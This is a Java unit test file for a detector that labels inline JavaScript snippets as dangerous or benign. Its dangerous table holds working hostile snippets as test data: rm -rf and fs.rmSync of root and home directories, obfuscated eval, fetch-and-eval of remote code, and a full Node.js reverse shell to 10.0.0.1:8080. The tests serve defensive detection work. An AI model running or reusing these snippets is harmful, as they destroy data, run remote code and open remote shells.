package dev.cmdguard.unwrap.inline;

import static dev.cmdguard.unwrap.inline.Rows.row;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class JsInlineTest {

  static Stream<Arguments> dangerous() {
    return Stream.of(
        row("require('child_process').execSync('rm -rf /')", "shell:rm -rf /"),
        row("require(\"child_process\").exec(\"id\")", "shell:id"),
        row("const {exec}=require('child_process'); exec(`rm -rf ${dir}`)", "shell~:rm -rf ${dir}"),
        row("const {execSync: run} = require('child_process'); run('rm -rf /')", "shell:rm -rf /"),
        row(
            "const cp = require('node:child_process'); cp.execFileSync('rm', ['-rf', '/'])",
            "argv:[rm, -rf, /]"),
        row("import {execSync as run} from 'node:child_process'; run('id')", "shell:id"),
        row("import * as cp from 'child_process'; cp.spawnSync('ls', ['-l'])", "argv:[ls, -l]"),
        row("require('child_process').spawn('rm -rf /', {shell: true})", "shell:rm -rf /"),
        row("require('child_process').fork('evil.js')", "argv:[node, evil.js]"),
        row("require('fs').rmSync('/', {recursive: true, force: true})", "delete-r:/"),
        row("require('fs').rmSync('/tmp/x')", "delete:/tmp/x"),
        row(
            "const fs = require('fs'); fs.rmdirSync('/home/u', {recursive: true})",
            "delete-r:/home/u"),
        row("require('fs').unlinkSync('/etc/hosts')", "delete:/etc/hosts"),
        row("require('fs').promises.rm('/x', {recursive: true})", "delete-r:/x"),
        row("import {rm} from 'fs/promises'; await rm('/x', {recursive: true})", "delete-r:/x"),
        row("require('fs').rmSync(require('os').homedir(), {recursive: true})", "delete-r:~"),
        row("require('fs').rmSync(process.env.HOME + '/x', {recursive: true})", "delete-r:~/x"),
        row("require('fs').writeFileSync('/etc/hosts', 'x')", "write:/etc/hosts"),
        row("require('rimraf').sync('/srv')", "delete-r:/srv"),
        row("await Bun.$`rm -rf /`", "shell:rm -rf /"),
        row("Bun.spawn(['rm', '-rf', '/'])", "argv:[rm, -rf, /]"),
        row("new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()", "argv:[rm, -rf, /]"),
        row("Deno.removeSync('/', {recursive: true})", "delete-r:/"),
        row(
            "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString())",
            "eval:eval",
            "shell:id"),
        row(
            "new Function('return require(\"child_process\")')().execSync('id')",
            "eval:Function",
            "shell:id"),
        row("const m = 'child_' + 'process'; require(m).execSync('id')", "shell:id"),
        row("require('child_process')['exec']('id')", "shell:id"),
        row("(0, eval)('require(\"child_process\").execSync(\"id\")')", "eval:eval", "shell:id"),
        row("require(String.fromCharCode(102, 115)).rmSync('/etc')", "delete:/etc"),
        row(
            "const args = ['-rf']; args.push('/'); require('child_process').spawnSync('rm', args)",
            "argv~:[rm, ${args}]"),
        row("global.process.mainModule.constructor._load('child_process').exec('id')", "shell:id"),
        row("import('child_process').then(cp => cp.execSync('id'))", "shell:id"),
        row("const cp = require('child_process'); const {exec} = cp; exec('id')", "shell:id"),
        row(
            "const d = '/tmp/x'; dirs.forEach(d => require('fs').rmSync(d, {recursive: true}))",
            "delete-r~:${d}"),
        row("require(x)", "opaque"),
        row("require('child_process')[m]('id')", "opaque"),
        row(
            "fetch('http://x/p.js').then(r => r.text()).then(eval)",
            "net:fetch",
            "eval~:eval",
            "opaque"),
        row("require('https').get('https://x', r => r.pipe(process.stdout))", "net:https.get"),
        row(
            "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
                + "var client=new net.Socket();client.connect(8080,\"10.0.0.1\",function(){"
                + "client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();",
            "argv:[/bin/sh]",
            "net:net.Socket.connect",
            "revshell:net.Socket.connect"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        row("console.log(process.version)"),
        row("console.log(1 + 1)"),
        row("console.log(require('./package.json').version)"),
        row("console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).name)"),
        row("process.stdout.write(JSON.stringify({a: 1}))"),
        row("console.log([1,2,3].map(x => x * 2).join(','))"),
        row("const re = /'/g; console.log('a'.replace(re, '\"'))"),
        row("let s = `a ${1 + 2} b`; console.log(s)"),
        row("console.log(`exec(${'rm -rf /'})`)"),
        row("// require('child_process').execSync('rm -rf /')\nconsole.log(1)"),
        row("/* fs.rmSync('/') */ console.log(2)"),
        row("const r = /exec\\(/.exec('exec('); console.log(r)"),
        row("console.log('child_process'.length)"),
        row("console.log(require('os').platform())"),
        row("console.log(require('path').join('a', 'b'))"),
        row("console.log(process.env.NODE_ENV)"),
        row("console.log(require('fs').existsSync('/tmp'))"),
        row("const {promisify} = require('util'); console.log(typeof promisify)"),
        row("console.log(new Date().toISOString())"),
        row("console.log(Buffer.from('aGk=', 'base64').toString())"),
        row("console.log(Object.keys(require('./package.json').dependencies).join('\\n'))"),
        row("const a = [3, 1, 2]; a.sort(); console.log(a)"),
        row("console.log(require('crypto').randomUUID())"),
        row("console.log(Math.max(...[1, 2, 3]))"),
        row("class A { exec(x) { return x } }; console.log(new A().exec(1))"),
        row("console.log(/a/.test('abc') ? 'yes' : 'no')"),
        row("console.log(10 / 2 / 5)"),
        row("const x = {shell: true}; console.log(x)"),
        row("async function f() { return 1 } f().then(console.log)"),
        row("console.log(require('fs').readdirSync('.').filter(f => f.endsWith('.js')))"),
        row("console.log('%s', 'rm -rf /')"),
        row("for (const k in process.env) if (k.startsWith('npm_')) console.log(k)"),
        row("console.log(require.resolve('react'))"),
        row("import('./x.mjs').then(m => console.log(m.default))"),
        row("console.log(encodeURIComponent('a b'))"),
        row("const a = [1]; a.push(2); console.log(a.length)"),
        row("console.log(require('os').cpus().length)"),
        row("process.exitCode = 0"),
        row("[1, 2].forEach(n => console.log(n))"),
        row("try { JSON.parse('x') } catch (e) { console.error(e.message) }"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"dangerous", "benign"})
  void analyses(String code, List<String> expected) {
    Rows.check(Language.JAVASCRIPT, code, expected);
  }

  @Test
  void tableHasAsManyBenignRowsAsDangerous() {
    Rows.assertBalanced(Stream.concat(dangerous(), benign()));
  }
}
